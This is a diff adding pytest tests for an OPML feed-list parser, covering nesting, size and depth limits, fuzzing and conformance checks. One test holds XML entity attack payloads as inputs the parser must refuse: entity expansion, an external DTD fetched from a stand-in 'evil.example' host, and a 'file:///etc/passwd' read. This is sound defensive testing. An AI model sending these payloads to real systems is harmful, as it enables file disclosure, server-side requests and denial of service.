@@ -1,0 +1,125 @@
+"""Lists of feeds from anywhere."""
+
+from __future__ import annotations
+
+import os
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from aggregator.errors import ParseError
+from aggregator.parse.opml import DEEPEST, MOST_BYTES, MOST_OUTLINES, Listed, read_opml
+
+CORPUS = Path(os.environ.get("AGGREGATOR_CORPUS", Path(__file__).resolve().parents[3] / "../shared/corpus"))
+
+
+def opml(body: str, head: str = "") -> bytes:
+    return f'<?xml version="1.0"?>{head}<opml version="2.0"><body>{body}</body></opml>'.encode()
+
+
+def test_feeds_with_their_folders_in_order() -> None:
+    found = read_opml(
+        opml(
+            '<outline text="A" type="rss" xmlUrl=" http://a.example/f "/>'
+            '<outline text="Tech"><outline title="Asia"><outline text="B &amp; C" xmlurl="http://b.example/"/></outline>'
+            '<outline text="a page" htmlUrl="http://c.example/"/></outline>'
+            '<outline type="ATOM" text="D" url="http://d.example/"/>'
+        )
+    )
+    assert found == (
+        Listed("A", "http://a.example/f", ()),
+        Listed("B & C", "http://b.example/", ("Tech", "Asia")),
+        Listed("D", "http://d.example/", ()),
+    )
+
+
+@pytest.mark.parametrize(
+    "head",
+    [
+        '<!DOCTYPE opml [<!ENTITY a "x">]>',
+        '<!DOCTYPE opml [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
+        '<!DOCTYPE opml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
+        '<!DOCTYPE opml [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
+    ],
+)
+def test_entities_are_refused(head: str) -> None:
+    with pytest.raises(ParseError, match="entities"):
+        read_opml(opml('<outline text="x" xmlUrl="http://a.example/"/>', head))
+    with pytest.raises(ParseError, match="entities"):
+        read_opml(opml("", head).decode().encode("utf-16"))
+
+
+def test_a_plain_doctype_does_no_harm() -> None:
+    assert read_opml(opml('<outline text="x" xmlUrl="http://a.example/"/>', "<!DOCTYPE opml SYSTEM 'opml.dtd'>"))
+
+
+def test_names_of_html_are_read_and_unknown_ones_are_text() -> None:
+    found = read_opml(opml('<outline text="Caf&eacute; &unknown; &lt;b&gt;" xmlUrl="http://a.example/?a=1&amp;b=2"/>'))
+    assert found == (Listed("Café &unknown; <b>", "http://a.example/?a=1&b=2", ()),)
+
+
+def test_bounds() -> None:
+    feed = '<outline text="x" xmlUrl="http://a.example/"/>'
+    with pytest.raises(ParseError, match="outlines"):
+        read_opml(opml(feed * (MOST_OUTLINES + 1)))
+    with pytest.raises(ParseError, match="deep"):
+        read_opml(opml('<outline text="f">' * (DEEPEST + 1) + feed + "</outline>" * (DEEPEST + 1)))
+    started = time.monotonic()
+    with pytest.raises(ParseError, match="deep"):
+        read_opml(opml('<outline text="f">' * 100_000))
+    assert time.monotonic() - started < 5
+    with pytest.raises(ParseError, match="larger"):
+        read_opml(b" " * (MOST_BYTES + 1))
+
+
+@pytest.mark.parametrize("data", [b"", b"nonsense", b"<html><body>x</body></html>", b"<rss><channel/></rss>", b"{}"])
+def test_what_is_no_list_is_said_so(data: bytes) -> None:
+    with pytest.raises(ParseError, match="OPML"):
+        read_opml(data)
+
+
+@given(st.binary(max_size=300))
+def test_any_bytes_end_in_feeds_or_a_clear_error(data: bytes) -> None:
+    for document in (data, opml("").replace(b"</body>", data + b"</body>")):
+        try:
+            read_opml(document)
+        except ParseError as error:
+            assert str(error)
+
+
+def test_lists_of_other_readers() -> None:
+    folder = CORPUS / "opml"
+    if not folder.is_dir():
+        pytest.skip(f"the corpus of OPML files is not at {folder}")
+    counts = {}
+    for path in sorted(folder.glob("*/*")):
+        try:
+            counts[path.name.rsplit("-", 1)[0]] = len(read_opml(path.read_bytes()))
+        except ParseError:
+            counts[path.name.rsplit("-", 1)[0]] = -1
+    assert counts["Subs"] == counts["SubsNoTitleAttributes"] == 207
+    assert counts["opml_v1.0"] == 1
+    assert counts["subscription_list.opml"] == 13
+
+
+def test_the_field_agrees(tmp_path: Path) -> None:
+    """Addresses that `listparser` finds in its own conformance files, we find too."""
+    import listparser
+
+    folder = CORPUS / "conformance/listparser/tests/files/opml"
+    if not folder.is_dir():
+        pytest.skip(f"the conformance files of listparser are not at {folder}")
+    differing, compared = [], 0
+    for path in sorted(folder.rglob("*.xml")):
+        theirs = [feed["url"] for feed in listparser.parse(path.read_text("utf-8")).get("feeds", []) if feed["url"]]
+        try:
+            ours = {feed.url for feed in read_opml(path.read_bytes())}
+        except ParseError:
+            ours = set()
+        differing += [path.name for url in theirs if url not in ours]
+        compared += len(theirs)
+    assert compared > 20
+    assert differing == []
